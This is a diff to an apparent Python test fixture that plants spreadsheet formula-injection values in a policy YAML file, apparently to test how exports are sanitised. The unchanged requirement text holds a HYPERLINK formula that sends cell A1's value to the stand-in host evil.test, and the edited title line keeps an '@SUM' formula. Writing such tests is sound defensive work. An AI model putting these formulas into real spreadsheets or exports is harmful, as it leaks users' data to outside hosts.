@@ -75,7 +75,7 @@ def formula_dataset(tmp_path):
     path = data / "policies" / "cz-2027.yaml"
     policy = yaml.safe_load(path.read_text(encoding="utf-8"))
     policy["requirements"][0]["text"] = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
-    policy["title"] = "@SUM(1+1)\rtweede regel"
+    policy["title"] = "@SUM(1+1)"
     path.write_text(yaml.safe_dump(policy, allow_unicode=True, sort_keys=False), encoding="utf-8")
     return data
 
